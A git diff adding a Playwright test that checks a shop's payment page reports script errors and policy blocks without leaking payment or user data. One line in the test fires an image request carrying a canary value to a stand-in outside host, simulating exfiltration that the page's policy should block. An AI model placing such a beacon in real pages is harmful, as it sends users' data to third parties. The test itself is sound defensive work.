@@ -1,5 +1,6 @@
 import { expect, type Page, test } from '@playwright/test'
 import { popupsLeftHistory } from '../src/popupEntry.ts'
+import { buyByDropIn, readyToPayByDropIn } from '../src/dropIn.ts'
 import { reportsTaken, trackedOf } from '../src/sandboxControl.ts'
 import { chooseCharacter, logIn, newShopper, storeIsThere } from '../src/shopper.ts'
 import { storeOrigin } from '../src/stores.ts'
@@ -112,4 +113,40 @@ test('a visit that does not ask for it reports nothing', async ({ page }) => {
   await page.goto('about:blank')
   expect(bodies).toEqual([])
   expect(asked.filter((url) => /reportPage|followVitals/.test(url))).toEqual([])
+})
+
+test('what breaks in the pay document is reported as of there, and nothing of the payment', async ({
+  page,
+}) => {
+  const shopper = newShopper(page, 'watt')
+  await page.goto(storeOrigin('watt'))
+  await storeIsThere(page)
+  await readyToPayByDropIn(shopper)
+  const payDocument = await buyByDropIn(shopper)
+  const bodies = listen(payDocument)
+  await payDocument.route(/\/assets\/adyenForm-[\w-]+\.js$/, (route) => route.abort())
+  // A store of this machine reports where the address asks for it.
+  await payDocument.goto(`${new URL(payDocument.url()).origin}/pay.html?report=1&billing=CANARY`)
+  const ofPay = async () => (await lines()).filter(({ route }) => route === 'pay')
+  await expect.poll(ofPay).toContainEqual({
+    kind: 'code',
+    name: 'TypeError',
+    route: 'pay',
+    frames: [{ file: expect.stringMatching(/^adyenForm-/), line: 0, column: 0 }],
+  })
+  await breakLate(payDocument)
+  await payDocument.evaluate(() => {
+    new Image().src = 'http://elsewhere.example/?CANARY'
+  })
+  await expect
+    .poll(ofPay)
+    .toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ kind: 'error', name: 'RangeError' }),
+        expect.objectContaining({ kind: 'policy', name: 'img-src', blocked: 'http' }),
+      ]),
+    )
+  expect(bodies.length).toBeGreaterThan(0)
+  for (const secret of ['CANARY', shopper.username, '://', 'billing'])
+    expect(bodies.join()).not.toContain(secret)
 })
